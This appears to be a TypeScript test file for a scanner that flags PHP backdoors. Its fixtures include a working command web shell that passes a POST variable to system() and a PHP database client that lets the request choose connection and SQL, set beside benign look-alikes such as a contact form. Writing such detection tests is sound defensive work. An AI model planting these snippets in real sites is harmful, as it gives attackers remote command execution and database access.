/**
 * PHP pages that import the request as variables (`extract($HTTP_POST_VARS)`, register_globals)
 * and run one the page never assigns, only appends to (`$command .= ' -F'`) or unsets; and
 * database clients where the request chooses both the connection and the SQL. Fixtures are
 * written for this test, each with benign look-alikes: a contact form that mails, a CMS page
 * with a SQL query on its own connection, a page that builds its command itself.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';

function verdict(path: string, code: string): string {
  return findingOf(path, code)?.verdict ?? 'clean';
}

test('php imports: an imported request variable that is only appended to reaches system()', () => {
  const shell = `<?php
if (!empty($HTTP_POST_VARS)) extract($HTTP_POST_VARS);
if (!empty($HTTP_SERVER_VARS)) extract($HTTP_SERVER_VARS);
if (!empty($command)) {
  if ($command == 'ls') $command .= ' -F';
  $command .= ' 2>&1';
  system($command);
  unset($command);
}
?>`;
  const f = findingOf('sh.php', shell);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('system() runs a variable that is never assigned (request variable set by extract() $command)'), reasons(f).join('; '));
  // the page sets the command itself before appending: its own value
  const own = `<?php
extract($_POST);
$command = 'uptime';
$command .= ' 2>&1';
system($command);
echo htmlspecialchars($name);
?>`;
  assert.notEqual(verdict('own.php', own), 'malicious');
});

test('php imports look-alikes: a contact form that mails, a CMS page with SQL on its own connection', () => {
  const contact = `<?php
$to = 'office@example.org';
$name = trim($_POST['name']);
$msg = trim($_POST['message']);
if ($name !== '' && $msg !== '') {
  mail($to, 'Contact form: ' . substr($name, 0, 40), $msg, 'From: web@example.org');
  echo 'Thank you';
}
?>`;
  assert.equal(verdict('contact.php', contact), 'clean');
  const cms = `<?php
$db = mysqli_connect('localhost', 'cms', 'secret', 'cms');
$id = (int) $_GET['id'];
$r = mysqli_query($db, "SELECT title, body FROM pages WHERE id = " . $id);
$row = mysqli_fetch_assoc($r);
echo htmlspecialchars($row['title']);
?>`;
  assert.equal(verdict('page.php', cms), 'clean');
});

test('php db client: the request chooses the connection and the SQL it runs (malicious)', () => {
  const client = `<?php
$link = mysql_connect($_POST['host'], $_POST['user'], $_POST['pass']);
mysql_select_db($_POST['db'], $link);
$res = mysql_query($_POST['sql'], $link);
while ($row = mysql_fetch_row($res)) echo implode("\\t", $row), "\\n";
?>`;
  const f = findingOf('db.php', client);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('request chooses the database connection and the SQL it runs (database client backdoor)'));
});
